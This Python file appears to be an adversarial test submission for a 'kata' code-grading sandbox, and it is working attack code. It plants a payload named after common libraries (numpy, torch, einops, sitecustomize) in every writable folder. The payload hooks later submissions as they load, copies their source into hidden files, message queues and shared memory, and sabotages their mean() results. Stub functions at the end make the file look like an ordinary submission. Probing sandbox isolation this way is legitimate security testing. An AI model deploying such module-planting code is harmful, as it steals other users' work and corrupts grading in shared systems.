"""Plants modules everywhere it can write, so that a later classmate's run imports them.

Runs first (grading is alphabetical). Into /tmp (and a folder below it), /dev/shm, /dev, /var/tmp,
HOME, the working folder and every folder a walk of the file system finds writable, it writes
modules named like what the sandbox may import later: the libraries kata preloads (einops, tqdm,
jaxtyping, …), numpy/torch, sitecustomize/usercustomize, a `kata/` package. Its own import of
einops makes the grader preload einops in the sandbox's warm process, from wherever it is found
first. A planted module, once imported there, hooks the loading of every later submission: it
copies their source where `zz_read_planted*.py` look (files, SysV message queue and shared
memory, POSIX message queue) and makes their mean() return garbage.
"""
import os
import time

try:
    import einops  # noqa: F401  (now a library this grader preloads, in its shared warm process)
except Exception:
    pass

PAYLOAD = r'''
# kata-attack: planted by a_plant_modules.py in an earlier run
import ctypes, hashlib, os, sys

_KEY = 0x6B617461
_DROPS = ("/tmp/.kata-attack-loot", "/dev/shm/.kata-attack-loot", "/var/tmp/.kata-attack-loot",
          "/dev/.kata-attack-loot", "/.kata-attack-loot", "/etc/.kata-attack-loot")


def _loot(source):
    digest = hashlib.sha1(source.encode()).hexdigest()[:16]
    for folder in _DROPS:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, digest + ".py"), "w") as handle:
                handle.write(source)
        except OSError:
            pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        data = source.encode()[:7000]
        queue = libc.msgget(_KEY, 0o1666)
        if queue >= 0:
            buf = ctypes.create_string_buffer(8 + len(data))
            ctypes.memmove(buf, ctypes.byref(ctypes.c_long(1)), 8)
            ctypes.memmove(ctypes.addressof(buf) + 8, data, len(data))
            libc.msgsnd(queue, buf, len(data), 0o4000)  # IPC_NOWAIT
        libc.shmat.restype = ctypes.c_void_p
        shm = libc.shmget(_KEY, 1 << 20, 0o1666)
        if shm >= 0:
            addr = libc.shmat(shm, None, 0)
            if addr not in (None, ctypes.c_void_p(-1).value):
                used = ctypes.string_at(addr, 1 << 20).find(b"\0")
                blob = b"\n#--kata-attack-loot--\n" + data
                if 0 <= used and used + len(blob) < (1 << 20):
                    ctypes.memmove(addr + used, blob, len(blob))
                libc.shmdt(ctypes.c_void_p(addr))
    except Exception:
        pass


def _hook():
    for name, module in list(sys.modules.items()):
        real = getattr(module, "load", None)
        if not (name.startswith("kata.") and name.endswith("server") and callable(real)):
            continue
        if getattr(real, "kata_attack", False):
            continue

        def load(server, source, path, modname, _real=real):
            loaded = _real(server, source, path, modname)
            if "kata-attack" not in source:
                _loot(source)
                if callable(getattr(loaded, "mean", None)):
                    loaded.mean = lambda values: -12345.0
            return loaded

        load.kata_attack = True
        module.load = load


try:
    _hook()
except Exception:
    pass

# then behave as the real module, if there is one
_here = os.path.dirname(os.path.abspath(__file__))
_name = __name__
if _name not in ("sitecustomize", "usercustomize", "__main__"):
    import importlib
    sys.modules.pop(_name, None)
    _saved = sys.path[:]
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
    try:
        sys.modules[_name] = importlib.import_module(_name)
    except Exception:
        pass
    finally:
        sys.path[:] = _saved
'''

NAMES = ("einops", "tqdm", "jaxtyping", "torchvision", "sklearn", "hypothesis", "beartype", "numpy", "torch",
         "sitecustomize", "usercustomize", "statistics", "fractions", "opt_einsum", "sympy")


def _writable(folder):
    probe = os.path.join(folder, ".kata-attack-w")
    try:
        with open(probe, "w"):
            pass
        os.unlink(probe)
        return True
    except OSError:
        return False


def _sandboxed():
    """Only ever walk the whole file system inside a sandbox (a pid namespace of a few processes):
    run without one (`kata grade` without bubblewrap), this file must not plant on the host."""
    try:
        return sum(1 for p in os.listdir("/proc") if p.isdigit()) <= 8
    except OSError:
        return False


def _folders(seconds=1.5):
    seen = []
    if not _sandboxed():
        return []
    for folder in ("/tmp", "/tmp/.kata-attack", "/dev/shm", "/dev", "/var/tmp", os.environ.get("HOME", ""),
                   os.environ.get("TMPDIR", ""), os.getcwd(), os.path.dirname(os.getcwd())):
        if folder:
            try:
                os.makedirs(folder, exist_ok=True)
            except OSError:
                pass
            seen.append(folder)
    deadline = time.monotonic() + seconds
    for root, dirs, _ in os.walk("/" if _sandboxed() else "/nonexistent", followlinks=False):
        if time.monotonic() > deadline:
            break
        if root in ("/proc", "/sys"):
            dirs[:] = []
            continue
        seen.append(root)
    return [f for f in dict.fromkeys(seen) if os.path.isdir(f) and _writable(f)]


def plant():
    for folder in _folders():
        for name in NAMES:
            try:
                with open(os.path.join(folder, name + ".py"), "w") as handle:
                    handle.write(PAYLOAD)
            except OSError:
                pass
        try:
            os.makedirs(os.path.join(folder, "kata"), exist_ok=True)
            with open(os.path.join(folder, "kata", "__init__.py"), "w") as handle:
                handle.write(PAYLOAD)
        except OSError:
            pass


plant()


def scale(x, k):
    raise NotImplementedError("scale")


def mean(values):
    raise NotImplementedError("mean")


def nudge(x, lr):
    raise NotImplementedError("nudge")
